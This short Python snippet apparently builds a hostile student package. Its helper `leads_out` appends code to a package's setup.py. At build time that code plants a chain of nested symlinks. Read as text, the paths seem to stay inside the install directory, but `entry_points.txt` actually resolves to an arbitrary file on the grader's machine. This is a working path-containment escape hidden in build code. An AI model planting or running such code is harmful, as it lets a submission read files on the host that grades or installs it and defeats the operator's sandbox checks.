# The package builds, and setup.py leaves an entry_points.txt in install that leads to a file of the grader's machine.
OUT = """
import os
install = "/home/student/ros2_ws/install/my_robot_pkg/lib/python3.11/site-packages/z.egg-info"
deep = "/".join("d" * 17)
if not os.path.lexists(f"{install}/entry_points.txt"):
    os.makedirs(f"{install}/{deep}", exist_ok=True)
    # Read as text, both are inside. Followed, b leads up to the package, and what comes after it from there to the root.
    os.symlink("../" * 21, f"{install}/{deep}/b")
    os.symlink(f"{deep}/b/" + "../" * 17 + TARGET.lstrip("/"), f"{install}/entry_points.txt")
"""


def leads_out(target):
    """Let setup.py leave the link."""
    setup = folder / "setup.py"
    setup.write_text(setup.read_text() + OUT.replace("TARGET", repr(target)))
